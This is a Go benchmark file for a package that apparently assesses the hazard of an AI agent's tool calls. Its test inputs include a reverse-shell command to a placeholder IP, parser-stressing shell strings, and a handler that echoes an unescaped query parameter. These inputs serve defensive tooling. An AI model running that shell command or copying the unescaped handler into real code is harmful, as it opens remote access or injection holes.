package hazard

import (
	"strings"
	"testing"

	"reeve.example/reeve/act"
)

// BenchmarkAssess measures what calls cost: an ordinary command of 1 KB, a file
// of 3 KB that is written, and a command of 100 KB made to be slow.
func BenchmarkAssess(b *testing.B) {
	command := strings.Repeat("cd /srv/app && git pull --ff-only && go build -o bin/app ./cmd/app && go test ./... | tee test.log | grep -v '^ok' || true\n", 9)[:1000]
	source := strings.Repeat("func handle(w http.ResponseWriter, r *http.Request) {\n\tname := r.URL.Query().Get(\"name\")\n\tfmt.Fprintf(w, \"hello, %s\\n\", name)\n}\n\n", 24)[:3000]
	for _, c := range []struct {
		name, tool string
		leaves     []act.Leaf
	}{
		{"read", "read_file", []act.Leaf{{Pointer: "/arguments/path", Arg: "path", Text: "internal/store/store.go"}}},
		{"command", "execute_command", []act.Leaf{{Pointer: "/arguments/command", Arg: "command", Text: command}}},
		{"write", "write_file", []act.Leaf{{Pointer: "/arguments/path", Arg: "path", Text: "web/handler.go"}, {Pointer: "/arguments/content", Arg: "content", Text: source}}},
		{"reverse shell", "execute_command", []act.Leaf{{Pointer: "/arguments/command", Arg: "command", Text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}},
		{"hostile", "execute_command", []act.Leaf{{Pointer: "/arguments/command", Arg: "command", Text: strings.Repeat("$((", 100<<10/3)}}},
		{"hostile parsed", "execute_command", []act.Leaf{{Pointer: "/arguments/command", Arg: "command", Text: strings.Repeat("a=$a$a;b=$(echo $a);", 100<<10/20)}}},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Assess(c.tool, c.leaves)
			}
		})
	}
}
